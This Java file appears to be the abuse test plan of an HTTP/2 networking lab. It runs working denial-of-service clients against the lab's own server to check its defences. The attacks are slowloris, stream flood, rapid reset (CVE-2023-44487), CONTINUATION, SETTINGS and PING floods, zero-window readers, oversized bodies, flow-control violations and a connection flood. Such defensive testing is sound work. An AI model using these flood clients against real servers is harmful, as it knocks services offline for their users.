package dev.netlab.http2.programs;

import static dev.netlab.http2.programs.RawFrames.CONTINUATION;
import static dev.netlab.http2.programs.RawFrames.HEADERS;
import static dev.netlab.http2.programs.RawFrames.PREFACE;
import static dev.netlab.http2.programs.RawFrames.concat;
import static dev.netlab.http2.programs.RawFrames.frame;
import static dev.netlab.http2.programs.RawFrames.get;
import static dev.netlab.http2.programs.RawFrames.settings;
import static dev.netlab.http2.programs.RawFrames.settingsAck;

import dev.netlab.kit.abuse.AbuseRun;
import dev.netlab.kit.abuse.Attack;
import dev.netlab.kit.abuse.ProbeClient;
import dev.netlab.kit.launch.ProgramProcess;
import dev.netlab.kit.tls.DevCertificates;
import java.io.BufferedInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import javax.net.ssl.SSLSocketFactory;

/**
 * The abuse suite of day 5 (given; lab-kit's {@code dev.netlab.kit.abuse} does the work): the
 * {@code serve} program in a JVM of its own with {@code -Xmx256m} and SETTINGS_MAX_CONCURRENT_STREAMS
 * {@value #MAX_STREAMS}, well-behaved h2c clients ({@link H2ProbeClient}: a {@code GET /style.css}
 * on a new stream of a kept connection) beside HTTP/2's own attacks, each client on a connection
 * of its own, reconnecting whenever the server closes it:
 * <ul>
 *   <li><b>slowloris on the preface</b>: the 24-octet client preface and an empty SETTINGS one
 *       octet per 100 ms, then silence, never acknowledging the server's SETTINGS;</li>
 *   <li><b>stream flood</b>: 100 GETs on new streams every 10 ms, far past the stream limit, the
 *       answers read and dropped but no flow-control credit given back;</li>
 *   <li><b>rapid reset</b> (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) on stream after stream;</li>
 *   <li><b>CONTINUATION flood</b>: a HEADERS without END_HEADERS, then 16 KiB CONTINUATIONs without end;</li>
 *   <li><b>SETTINGS flood</b> and <b>PING flood</b>: a hundred control frames every 5 ms, each of
 *       which the server must answer;</li>
 *   <li><b>zero-window readers</b>: SETTINGS_INITIAL_WINDOW_SIZE 0, then GETs of the page whose
 *       content can never be sent, and no WINDOW_UPDATE ever;</li>
 *   <li><b>connection flood</b>: {@value #MAX_CONNECTIONS} + 150 silent connections, past the
 *       server's cap ({@code --max-connections} {@value #MAX_CONNECTIONS}): the ones beyond it wait
 *       in the accept backlog, and the clients already served must not notice (it starts last: when
 *       all attack at once, an attacker that reconnects after it queues behind it like any newcomer);</li>
 *   <li><b>oversized content</b>: POSTs whose DATA goes on past the server's body limit
 *       ({@code --max-body} {@value #MAX_BODY}) up to four times it, within the flow-control windows the
 *       server grants: it must answer 413 and drop the rest, not keep it;</li>
 *   <li><b>flow-control violations</b> (RFC 9113 §6.9.1, §6.5.2): a WINDOW_UPDATE that takes the
 *       connection's or a stream's window past 2^31−1, an INITIAL_WINDOW_SIZE of 2^31; each a
 *       FLOW_CONTROL_ERROR that ends the connection (or the stream), again and again.</li>
 * </ul>
 * {@link #tlsScenarios} runs the same attacks over h2 with TLS (ALPN {@code h2}, RFC 9113 §3.2)
 * against {@code serve --tls}, beside clients that speak h2 over TLS ({@link #tlsProbe}).
 * Run by checkpoint 5.16 in brief ({@code AbuseTest}) and by bench's {@code abuse} suite at length
 * ({@code ./lab bench day5-http2 --suite abuse}).
 */
public final class AbusePlan {
    private AbusePlan() {}

    /** SETTINGS_MAX_CONCURRENT_STREAMS of the abused server. */
    public static final int MAX_STREAMS = 100;
    /** The server's connection cap ({@code --max-connections}). */
    public static final int MAX_CONNECTIONS = 256;
    /** The server's body limit ({@code --max-body}): more content is answered 413. */
    public static final int MAX_BODY = 256 * 1024;
    /** The bound on the server's resident memory (heap capped at 256 MiB, plus the JVM's own). */
    public static final long RSS_BOUND_KIB = 512 * 1024;
    /** The well-behaved clients' promise. */
    public static final double P99_LIMIT_MILLIS = 100;
    /** JVM options of the server: the heap bound, fixed compiler and GC thread counts (the leak check compares threads). */
    public static final List<String> SERVER_JVM = List.of("-Xms64m", "-Xmx256m",
            "-XX:-UseDynamicNumberOfCompilerThreads", "-XX:-UseDynamicNumberOfGCThreads");

    private static final String PROBE_PATH = "/style.css";
    private static final int SETTINGS_INITIAL_WINDOW_SIZE = 0x4;
    private static final int CANCEL = 0x8;

    /** Starts {@code serve} (h2c) with the stream, connection and body limits of the plan. */
    public static ProgramProcess start() throws IOException {
        return start(false);
    }

    /** Starts {@code serve} with the limits of the plan, h2 over TLS when {@code tls} (else h2c). */
    public static ProgramProcess start(boolean tls) throws IOException {
        List<String> args = new ArrayList<>(List.of("--port", "0", "--max-streams", Integer.toString(MAX_STREAMS),
                "--max-connections", Integer.toString(MAX_CONNECTIONS), "--max-body", Integer.toString(MAX_BODY)));
        if (tls) {
            args.add("--tls");
        }
        return ProgramProcess.start(SERVER_JVM, AbusePlan.class, "serve", args.toArray(String[]::new));
    }

    /** host:port of a READY url such as {@code http://127.0.0.1:4711/}. */
    public static InetSocketAddress address(String readyUrl) {
        URI u = URI.create(readyUrl);
        return new InetSocketAddress(u.getHost(), u.getPort());
    }

    /** The well-behaved client: GET /style.css on a new stream of its kept connection, 200 with the whole file. */
    public static ProbeClient probe() {
        return new H2ProbeClient(PROBE_PATH, siteFileLength(PROBE_PATH), null);
    }

    /** The well-behaved client over TLS: ALPN h2 (trusting the lab's development CA), then as {@link #probe}. */
    public static ProbeClient tlsProbe() {
        return new H2ProbeClient(PROBE_PATH, siteFileLength(PROBE_PATH), clientTls());
    }

    private static volatile SSLSocketFactory clientTls;

    private static SSLSocketFactory clientTls() {
        if (clientTls == null) {
            clientTls = DevCertificates.standard().clientContext().getSocketFactory();
        }
        return clientTls;
    }

    /** The attacks; {@code scale} 1 for CI, more for the bench. */
    public static List<AbuseRun.Scenario> scenarios(int scale) {
        return List.of(
                new AbuseRun.Scenario("slowloris preface", a -> Attack.custom("slowloris-preface", a, 50 * scale, AbusePlan::slowPreface)),
                new AbuseRun.Scenario("stream flood", a -> Attack.custom("stream-flood", a, 2 * scale, AbusePlan::streamFlood)),
                new AbuseRun.Scenario("rapid reset", a -> Attack.custom("rapid-reset", a, 2 * scale, AbusePlan::rapidReset)),
                new AbuseRun.Scenario("CONTINUATION flood", a -> Attack.custom("continuation-flood", a, 2 * scale, AbusePlan::continuationFlood)),
                new AbuseRun.Scenario("SETTINGS flood", a -> Attack.custom("settings-flood", a, 2 * scale,
                        (s, at) -> controlFlood(s, at, settings(SETTINGS_INITIAL_WINDOW_SIZE, 65_535)))),
                new AbuseRun.Scenario("PING flood", a -> Attack.custom("ping-flood", a, 2 * scale,
                        (s, at) -> controlFlood(s, at, RawFrames.ping(0, 0x6e65746c6162L)))),
                new AbuseRun.Scenario("zero-window readers", a -> Attack.custom("zero-window", a, 5 * scale, AbusePlan::zeroWindow)),
                new AbuseRun.Scenario("oversized content", a -> Attack.custom("oversized-content", a, 2 * scale, AbusePlan::oversizedContent)),
                new AbuseRun.Scenario("flow-control violations", a -> Attack.custom("flow-control", a, 2 * scale, AbusePlan::flowControlViolations)),
                new AbuseRun.Scenario("connection flood", a -> Attack.connectionFlood(a, MAX_CONNECTIONS + 150 * scale)));
    }

    /**
     * The attacks over h2 with TLS ({@code serve --tls}): the HTTP/2 attacks after a handshake that
     * chose {@code h2} by ALPN, each connection a full handshake of its own; the connection flood
     * stays silent TCP (it never gets as far as a ClientHello, and the first-octets timeout ends it).
     * Left out: the CONTINUATION flood and the zero-window readers, whose defences sit after TLS
     * exactly as over h2c ({@link #scenarios} has them), and the SETTINGS flood (the PING flood's
     * path). Slowloris comes with 10 connections, not 50: each starts with a handshake, and 50 at
     * once on a 2-core machine measure the handshakes (day 4's suite does), not the preface timeout.
     */
    public static List<AbuseRun.Scenario> tlsScenarios(int scale) {
        return List.of(
                new AbuseRun.Scenario("slowloris preface (TLS)", a -> Attack.custom("slowloris-preface", a, 10 * scale, overTls(AbusePlan::slowPreface))),
                new AbuseRun.Scenario("stream flood (TLS)", a -> Attack.custom("stream-flood", a, 2 * scale, overTls(AbusePlan::streamFlood))),
                new AbuseRun.Scenario("rapid reset (TLS)", a -> Attack.custom("rapid-reset", a, 2 * scale, overTls(AbusePlan::rapidReset))),
                new AbuseRun.Scenario("PING flood (TLS)", a -> Attack.custom("ping-flood", a, 2 * scale,
                        overTls((s, at) -> controlFlood(s, at, RawFrames.ping(0, 0x6e65746c6162L))))),
                new AbuseRun.Scenario("oversized content (TLS)", a -> Attack.custom("oversized-content", a, 2 * scale, overTls(AbusePlan::oversizedContent))),
                new AbuseRun.Scenario("flow-control violations (TLS)", a -> Attack.custom("flow-control", a, 2 * scale, overTls(AbusePlan::flowControlViolations))),
                new AbuseRun.Scenario("connection flood", a -> Attack.connectionFlood(a, MAX_CONNECTIONS + 150 * scale)));
    }

    /** {@code plain} after a TLS handshake on the socket that chose h2 by ALPN (the capstone's h2 attacks use it too). */
    public static Attack.Client overTls(Attack.Client plain) {
        return (s, a) -> plain.run(H2ProbeClient.h2OverTls(s, clientTls()), a);
    }

    /**
     * POSTs of content without end: 16 KiB of DATA every 10 ms within the windows the server grants
     * (its SETTINGS_INITIAL_WINDOW_SIZE and WINDOW_UPDATEs, read by the drain), up to four times the
     * body limit; once the server has answered (413) or reset the stream, END_STREAM and the next one.
     */
    private static void oversizedContent(Socket s, Attack a) throws IOException, InterruptedException {
        AtomicLong connection = new AtomicLong(65_535);
        AtomicLong stream = new AtomicLong(65_535);
        AtomicLong initial = new AtomicLong(65_535);
        AtomicInteger current = new AtomicInteger(1);
        AtomicBoolean answered = new AtomicBoolean();
        Thread reader = Thread.ofPlatform().daemon().start(() -> {
            try {
                DataInputStream in = new DataInputStream(new BufferedInputStream(s.getInputStream()));
                while (true) {
                    RawFrames.Read f = RawFrames.read(in, 1 << 24);
                    if (f.type() == RawFrames.SETTINGS && (f.flags() & RawFrames.ACK) == 0) {
                        ByteBuffer p = ByteBuffer.wrap(f.payload());
                        while (p.remaining() >= 6) {
                            int id = p.getShort() & 0xffff;
                            long value = p.getInt() & 0xffff_ffffL;
                            if (id == SETTINGS_INITIAL_WINDOW_SIZE) {
                                stream.addAndGet(value - initial.getAndSet(value)); // §6.9.2: the change applies to open streams
                            }
                        }
                    } else if (f.type() == RawFrames.WINDOW_UPDATE && f.payload().length == 4) {
                        long increment = ByteBuffer.wrap(f.payload()).getInt() & 0x7fff_ffffL;
                        if (f.stream() == 0) {
                            connection.addAndGet(increment);
                        } else if (f.stream() == current.get()) {
                            stream.addAndGet(increment);
                        }
                    } else if ((f.type() == RawFrames.HEADERS || f.type() == RawFrames.RST_STREAM) && f.stream() == current.get()) {
                        answered.set(true);
                    }
                }
            } catch (IOException e) {
                // closed
            }
        });
        try {
            OutputStream out = s.getOutputStream();
            byte[] hello = hello();
            a.send(out, hello, 0, hello.length);
            byte[] chunk = new byte[16_384];
            for (int id = 1; a.running() && id < 1 << 30; id += 2) {
                current.set(id);
                answered.set(false);
                stream.set(initial.get());
                byte[] post = RawFrames.post(id, "/upload");
                a.send(out, post, 0, post.length);
                for (long sent = 0; a.running() && sent < 4L * MAX_BODY && !answered.get(); ) {
                    if (connection.get() < chunk.length || stream.get() < chunk.length) {
                        a.pause(Duration.ofMillis(1)); // no credit: wait for the server's WINDOW_UPDATE
                        continue;
                    }
                    connection.addAndGet(-chunk.length);
                    stream.addAndGet(-chunk.length);
                    byte[] data = frame(RawFrames.DATA, 0, id, chunk);
                    a.send(out, data, 0, data.length);
                    sent += chunk.length;
                    a.pause(Duration.ofMillis(10));
                }
                byte[] end = frame(RawFrames.DATA, RawFrames.END_STREAM, id, new byte[0]);
                a.send(out, end, 0, end.length);
                a.pause(Duration.ofMillis(10));
            }
        } finally {
            s.close();
            reader.join(1_000);
        }
    }

    private static final AtomicLong VIOLATIONS = new AtomicLong();

    /**
     * One flow-control violation per connection, in turn: WINDOW_UPDATE(0, 2^31−1) on a connection
     * window of 65,535 (§6.9.1: past 2^31−1, a connection error FLOW_CONTROL_ERROR); the same on an
     * open stream (a stream error: RST_STREAM); SETTINGS_INITIAL_WINDOW_SIZE 2^31 (§6.5.2: a
     * connection error FLOW_CONTROL_ERROR). Then the server's answer is read: GOAWAY and the close
     * (counted as closed by the server), or the stream's RST_STREAM (then the attacker hangs up);
     * the next connection 20 ms later.
     */
    private static void flowControlViolations(Socket s, Attack a) throws IOException, InterruptedException {
        OutputStream out = s.getOutputStream();
        byte[] violation = switch ((int) (VIOLATIONS.getAndIncrement() % 3)) {
            case 0 -> concat(hello(), RawFrames.windowUpdate(0, 0x7fff_ffff));
            case 1 -> concat(hello(), RawFrames.post(1, "/upload"), RawFrames.windowUpdate(1, 0x7fff_ffff));
            default -> concat(PREFACE, settings(SETTINGS_INITIAL_WINDOW_SIZE, 0x8000_0000));
        };
        a.send(out, violation, 0, violation.length);
        out.flush();
        DataInputStream in = new DataInputStream(new BufferedInputStream(s.getInputStream()));
        s.setSoTimeout(2_000);
        try {
            while (a.running()) {
                RawFrames.Read f = RawFrames.read(in, 1 << 24);
                if (f.type() == RawFrames.RST_STREAM && f.stream() == 1) {
                    break; // a stream error: the connection lives on, the attacker hangs up
                }
                if (f.type() == RawFrames.GOAWAY) {
                    in.transferTo(OutputStream.nullOutputStream()); // to the close; EOF below
                    throw new IOException("GOAWAY, then the close");
                }
            }
        } catch (EOFException e) {
            throw new IOException("closed by the server", e);
        } catch (SocketTimeoutException e) {
            return; // no answer in 2 s: the attacker hangs up
        }
        a.pause(Duration.ofMillis(20));
    }

    /** The preface and an empty SETTINGS one octet per 100 ms, then silence until the server closes. */
    private static void slowPreface(Socket s, Attack a) throws IOException, InterruptedException {
        byte[] octets = concat(PREFACE, settings());
        OutputStream out = s.getOutputStream();
        for (int i = 0; i < octets.length && a.running(); i++) {
            a.send(out, octets, i, 1);
            out.flush();
            a.pause(Duration.ofMillis(100));
        }
        untilClosed(s, a);
    }

    /** 100 GETs on new streams every 10 ms; answers read and dropped, no credit given back. */
    private static void streamFlood(Socket s, Attack a) throws IOException, InterruptedException {
        withDrain(s, () -> {
            OutputStream out = s.getOutputStream();
            byte[] hello = hello();
            a.send(out, hello, 0, hello.length);
            for (int stream = 1; a.running() && stream < 1 << 30; ) {
                ByteArrayOutputStream burst = new ByteArrayOutputStream();
                for (int i = 0; i < 100; i++, stream += 2) {
                    burst.writeBytes(get(stream, "/no-such-page"));
                }
                a.send(out, burst.toByteArray(), 0, burst.size());
                a.pause(Duration.ofMillis(10));
            }
        });
    }

    /** HEADERS, then RST_STREAM(CANCEL) at once, 50 streams per write, every 5 ms. */
    private static void rapidReset(Socket s, Attack a) throws IOException, InterruptedException {
        withDrain(s, () -> {
            OutputStream out = s.getOutputStream();
            byte[] hello = hello();
            a.send(out, hello, 0, hello.length);
            for (int stream = 1; a.running() && stream < 1 << 30; ) {
                ByteArrayOutputStream burst = new ByteArrayOutputStream();
                for (int i = 0; i < 50; i++, stream += 2) {
                    burst.writeBytes(get(stream, "/"));
                    burst.writeBytes(RawFrames.rstStream(stream, CANCEL));
                }
                a.send(out, burst.toByteArray(), 0, burst.size());
                a.pause(Duration.ofMillis(5));
            }
        });
    }

    /** A field block that never ends: HEADERS without END_HEADERS, then 16 KiB CONTINUATIONs every 2 ms. */
    private static void continuationFlood(Socket s, Attack a) throws IOException, InterruptedException {
        withDrain(s, () -> {
            OutputStream out = s.getOutputStream();
            byte[] first = concat(hello(), frame(HEADERS, 0, 1, RawFrames.getBlock("/")));
            a.send(out, first, 0, first.length);
            // zeros: HPACK can decode nothing before END_HEADERS, so a server that keeps going keeps it all
            byte[] more = frame(CONTINUATION, 0, 1, new byte[16_384]);
            while (a.running()) {
                a.send(out, more, 0, more.length);
                a.pause(Duration.ofMillis(2));
            }
        });
    }

    /** 100 copies of {@code control} every 5 ms, the answers read and dropped. */
    private static void controlFlood(Socket s, Attack a, byte[] control) throws IOException, InterruptedException {
        withDrain(s, () -> {
            OutputStream out = s.getOutputStream();
            byte[] hello = hello();
            a.send(out, hello, 0, hello.length);
            byte[] burst = new byte[control.length * 100];
            for (int i = 0; i < 100; i++) {
                System.arraycopy(control, 0, burst, i * control.length, control.length);
            }
            while (a.running()) {
                a.send(out, burst, 0, burst.length);
                a.pause(Duration.ofMillis(5));
            }
        });
    }

    /** INITIAL_WINDOW_SIZE 0, then GETs of the page up to the stream limit; no credit, ever. */
    private static void zeroWindow(Socket s, Attack a) throws IOException, InterruptedException {
        withDrain(s, () -> {
            OutputStream out = s.getOutputStream();
            byte[] zero = concat(PREFACE, settings(SETTINGS_INITIAL_WINDOW_SIZE, 0), settingsAck());
            a.send(out, zero, 0, zero.length);
            ByteArrayOutputStream gets = new ByteArrayOutputStream();
            for (int stream = 1; stream < 2 * MAX_STREAMS; stream += 2) {
                gets.writeBytes(get(stream, "/"));
            }
            a.send(out, gets.toByteArray(), 0, gets.size());
            out.flush();
            while (a.running()) {
                a.pause(Duration.ofMillis(100));
            }
        });
    }

    /** The client preface, an empty SETTINGS and the ACK of the server's. */
    private static byte[] hello() {
        return concat(PREFACE, settings(), settingsAck());
    }

    private interface Body {
        void run() throws IOException, InterruptedException;
    }

    /** Runs {@code body} while a second thread reads and drops what the server sends, until either ends. */
    private static void withDrain(Socket s, Body body) throws IOException, InterruptedException {
        Thread reader = Thread.ofPlatform().daemon().start(() -> {
            try {
                s.getInputStream().transferTo(OutputStream.nullOutputStream());
            } catch (IOException e) {
                // closed
            }
            try {
                s.close(); // the server closed: stop writing too
            } catch (IOException ignored) {
                // closed either way
            }
        });
        try {
            body.run();
        } finally {
            s.close();
            reader.join(1_000);
        }
    }

    /** Reads and drops until the server closes the connection or the attack ends. */
    private static void untilClosed(Socket s, Attack a) throws IOException {
        InputStream in = s.getInputStream();
        s.setSoTimeout(100);
        byte[] sink = new byte[4096];
        while (a.running()) {
            try {
                if (in.read(sink) < 0) {
                    throw new IOException("closed by the server");
                }
            } catch (SocketTimeoutException e) {
                // still open: hold on
            }
        }
    }

    private static int siteFileLength(String path) {
        try (InputStream in = AbusePlan.class.getResourceAsStream("/site" + path)) {
            if (in == null) {
                throw new IllegalStateException("no /site" + path + " on the class path");
            }
            return in.readAllBytes().length;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
